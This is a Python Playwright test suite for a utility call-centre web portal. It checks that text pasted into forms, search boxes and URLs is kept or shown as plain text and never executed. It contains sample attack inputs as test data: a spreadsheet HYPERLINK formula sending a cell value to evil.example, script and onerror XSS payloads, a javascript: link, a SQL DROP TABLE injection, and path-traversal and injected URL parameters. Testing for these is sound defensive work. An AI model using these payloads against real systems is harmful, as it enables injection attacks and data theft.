"""What people paste into forms: a clear sentence, or saved and shown as the text it is; nothing lost, nothing run."""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.journeys import walking

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import BrowserContext, Page

    from tests.conftest import Templates
    from tests.journeys.walking import Desk

pytestmark = pytest.mark.browser

TEXTS = {
    "formula and script": '=HYPERLINK("https://evil.example/"&A1,"Oak") <script>window.ran = 1; alert(1)</script>'
    '<img src=x onerror="window.ran = 1; alert(2)">',
    "markdown and emoji": "![x](https://evil.example/a.png) [Oak](javascript:alert(3)) $x^2$ :red[late] 🦝🗑️ مرحبا ñandú 1",
    "long": "Oak " * 2_500,
}


@dataclass(frozen=True)
class Form:
    """A form, who fills it in, the field that is pasted into, and where its text would be stored."""

    address: str
    staff_id: int
    field: str
    button: str
    stored: str
    """A statement that answers with the texts saved so far."""


FORMS = {
    "request": Form(
        "service_request?account=1&type=missed_garbage", walking.LUIS, "In the caller’s words", "Open the request",
        "SELECT description FROM service_request",
    ),
    "emergency": Form(
        "emergency?kind=gas_odor", walking.LUIS, "Where is it?", "Stamp and transfer", "SELECT place FROM emergency_call"
    ),
    "start": Form("start_service?premise=6", walking.LUIS, "Name on the bill", "Start 5 services", "SELECT name FROM person"),
    "customer": Form("customer?account=1&do=edit", walking.LUIS, "Mailing address", "Save", "SELECT mailing_address FROM person"),
    "known event": Form("known_events", walking.SAM, "Title", "Announce it", "SELECT title FROM known_event"),
    "staff": Form("staff", walking.ADA, "Subject", "Let them in", "SELECT subject FROM staff"),
    "wrap-up": Form("wrap_up", walking.DANA, "Note", "Wrap up", "SELECT note FROM conversation"),
}  # fmt: skip


@pytest.fixture(scope="module")
def desk(templates: Templates, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    with walking.open_desk("sqlite", templates, tmp_path_factory.mktemp("bad"), lambda: "") as opened:
        yield opened


@pytest.fixture
def ran(browser_context: BrowserContext) -> list[str]:
    """What a smuggled text set off: a window that opened, a request that left the portal."""
    found: list[str] = []

    def dismiss(dialog: object) -> None:
        found.append(f"dialog {dialog}")

    browser_context.on("dialog", dismiss)
    browser_context.on("request", lambda one: found.append(one.url) if "evil.example" in one.url else None)
    return found


def check_inert(page: Page, desk: Desk, ran: list[str]) -> None:
    """Nothing ran, nothing broke, on the screen and in the log."""
    said = walking.main_text(page)
    for word in ("Traceback", "Something went wrong", "Incident", "That did not work"):
        assert word not in said
    assert page.evaluate("window.ran") is None
    assert page.locator("[data-testid=stMainBlockContainer] img[src*=evil], a[href^=javascript]").count() == 0
    assert ran == []
    assert "Traceback" not in desk.served.said()


def prepare(page: Page, desk: Desk, form: Form, name: str) -> None:
    """Everything but the pasted text, so that the form could be carried out."""
    if name == "wrap-up":
        walking.go(page, desk, "call_desk")
        if page.get_by_role("button", name="Take a call").is_visible():
            walking.take_call(page)
    walking.go(page, desk, form.address)
    if name == "request":
        for group in page.get_by_role("radiogroup").all():
            if group.get_by_text("Phone").count() == 0:
                group.get_by_role("radio").first.click()
    if name == "known event":
        walking.choose(page, "Kind", "Main break")
    if name == "staff":
        page.get_by_role("textbox", name="Name", exact=True).fill("Nora Quinn")
        page.get_by_role("textbox", name="Issuer").fill("https://login.example")
        page.get_by_role("button", name="Representative").click()
    walking.settle(page)


@pytest.mark.parametrize("name", FORMS)
def test_pasted_text_is_refused_with_a_sentence_or_kept_as_text(
    desk: Desk, browser_context: BrowserContext, ran: list[str], name: str
) -> None:
    form = FORMS[name]
    page = walking.sit_down(browser_context, desk, form.staff_id)
    for text in TEXTS.values():
        prepare(page, desk, form, name)
        field = page.get_by_test_id("stMainBlockContainer").get_by_role("textbox", name=form.field).first
        field.fill(text)
        field.blur()
        walking.settle(page)
        assert field.input_value() == text
        walking.double_click(page.get_by_test_id("stMainBlockContainer").get_by_role("button", name=form.button).first)
        walking.settle(page)
        check_inert(page, desk, ran)
        stored = [value for (value,) in desk.rows(form.stored)]
        if page.get_by_text(re.compile("verything you typed is kept")).count():
            # Refused: the text is still there, also after the line broke, and a sentence says what to do.
            expect(field).to_have_value(text)
            assert text.strip() not in stored
            walking.reconnect(page)
            expect(field).to_have_value(text)
        else:
            assert " ".join(text.split()) in {" ".join(value.split()) for value in stored if value}


def test_saved_text_is_shown_as_it_was_typed(desk: Desk, browser_context: BrowserContext, ran: list[str]) -> None:
    """The cases of the test above, on the pages that show them."""
    page = walking.sit_down(browser_context, desk, walking.SAM)
    cases = desk.rows("SELECT id, description FROM service_request ORDER BY id")
    assert cases
    for row, words in cases:
        walking.go(page, desk, f"case?id={row}")
        assert " ".join(words.split())[:300] in " ".join(walking.main_text(page).split())
        check_inert(page, desk, ran)
    for address in ("work_queue", "customer?account=1", "known_events", "call_backs"):
        walking.go(page, desk, address)
        check_inert(page, desk, ran)


@pytest.mark.parametrize("address", ["call_desk", "work_queue", "articles", "start_service"])
def test_search_boxes_take_anything(desk: Desk, browser_context: BrowserContext, ran: list[str], address: str) -> None:
    page = walking.sit_down(browser_context, desk, walking.SAM)
    walking.go(page, desk, address)
    box = page.get_by_test_id("stMainBlockContainer").get_by_role("searchbox").first
    for text in (*TEXTS.values(), "%_% \\ (((", "'; DROP TABLE person; --"):
        box.fill(text)
        box.press("Enter")
        page.wait_for_timeout(350)
        walking.settle(page)
        check_inert(page, desk, ran)
        assert box.input_value() == text
    assert desk.count("person") >= 12  # city.toml


ADDRESSES = (
    "customer?account=999999",
    "customer?account=1%20OR%201=1",
    "case?id=-1",
    "case?id=%3Cscript%3E",
    "work_order?id=²",
    "start_service?premise=99999999999999999999",
    "service_request?type=%3Cb%3E&account=x",
    "work_queue?page=0&scope=%27",
    "emergency?kind=%22",
    "articles?article=..%2F..",
    "call_desk?form=%3Cscript%3E",
)


def test_typed_addresses_break_nothing(desk: Desk, browser_context: BrowserContext, ran: list[str]) -> None:
    page = walking.sit_down(browser_context, desk, walking.SAM)
    for address in ADDRESSES:
        walking.go(page, desk, address)
        assert walking.main_text(page).strip()
        check_inert(page, desk, ran)


def write_day(page: Page, label: str, month: str, day: str, year: str) -> None:
    """Types a date as a person does."""
    for part, typed in (("month", month), ("day", day), ("year", year)):
        page.get_by_role("spinbutton", name=f"{part}, {label}", exact=True).click()
        page.keyboard.type(typed)
    walking.settle(page)


def twice(page: Page, name: str) -> None:
    """A double click with the mouse on a button whose name begins so: the field that has the keyboard loses it, as it must for
    a date to be taken over."""
    page.get_by_test_id("stMain").get_by_role("button", name=re.compile(f"^{name}")).last.dblclick()
    walking.settle(page)


def test_an_address_nobody_has_and_days_out_of_reach(
    desk: Desk, browser_context: BrowserContext, ran: list[str]
) -> None:
    page = walking.sit_down(browser_context, desk, walking.LUIS)
    for text in ("99999 Nowhere Blvd", *TEXTS.values()):
        walking.go(page, desk, "start_service")
        page.get_by_label("Where does service start?").fill(text)
        page.wait_for_timeout(500)
        walking.settle(page)
        check_inert(page, desk, ran)
    expect(page.get_by_text("No address fits").or_(page.get_by_role("button", name="Oak")).first).to_be_visible()
    moves, people = desk.count("move"), desk.count("person")
    for month, day, year, sentence in (("01", "01", "1900", "too long ago"), ("12", "31", "2199", "too far ahead")):
        walking.go(page, desk, "start_service?premise=6")
        page.get_by_label("Name on the bill").fill("Nora Quint")
        page.get_by_label("Mobile").fill("850 555 0191")
        write_day(page, "Start on", month, day, year)
        twice(page, "Start 5 services")
        expect(page.get_by_text(sentence).first).to_be_visible()
        expect(page.get_by_label("Name on the bill")).to_have_value("Nora Quint")
        check_inert(page, desk, ran)
    assert (desk.count("move"), desk.count("person")) == (moves, people)


def test_stops_and_transfers_take_words_as_words(desk: Desk, browser_context: BrowserContext, ran: list[str]) -> None:
    page = walking.sit_down(browser_context, desk, walking.LUIS)
    walking.go(page, desk, "call_desk")
    if page.get_by_role("button", name="Take a call").is_visible():
        walking.take_call(page)
    moves = desk.count("move")
    for address, button in (("stop_service?account=1", "Stop"), ("transfer_service?account=1&premise=6", "Transfer")):
        for text in TEXTS.values():
            walking.go(page, desk, address)
            field = page.get_by_test_id("stMainBlockContainer").get_by_role("textbox").last
            field.fill(text)
            field.blur()
            walking.settle(page)
            for month, day, year in (("01", "01", "1900"), ("12", "31", "2199")):
                write_day(page, page_day(page), month, day, year)
                twice(page, button)
                expect(page.get_by_text(re.compile("verything you typed is kept"))).to_be_visible()
                check_inert(page, desk, ran)
            expect(field).to_have_value(text)
    assert desk.count("move") == moves


def page_day(page: Page) -> str:
    """The label of the page's first date field."""
    first = page.get_by_role("spinbutton").first.get_attribute("aria-label") or ""
    return first.partition(", ")[2]


def test_a_call_back_takes_words_as_words(desk: Desk, browser_context: BrowserContext, ran: list[str]) -> None:
    page = walking.sit_down(browser_context, desk, walking.SAM)
    for text in TEXTS.values():
        walking.go(page, desk, "call_backs")
        page.get_by_role("button", name="Plan a call-back").click()
        page.get_by_label("Number").fill("850 555 0191")
        page.get_by_label("What to tell them").fill(text)
        page.get_by_label("What to tell them").blur()
        walking.double_click(page.get_by_role("button", name="Plan the call-back").last)
        walking.settle(page)
        expect(page.get_by_text("Enter the day and the time of the call-back.")).to_be_visible()
        expect(page.get_by_label("What to tell them")).to_have_value(text)
        check_inert(page, desk, ran)
    assert desk.count("call_back") == 0
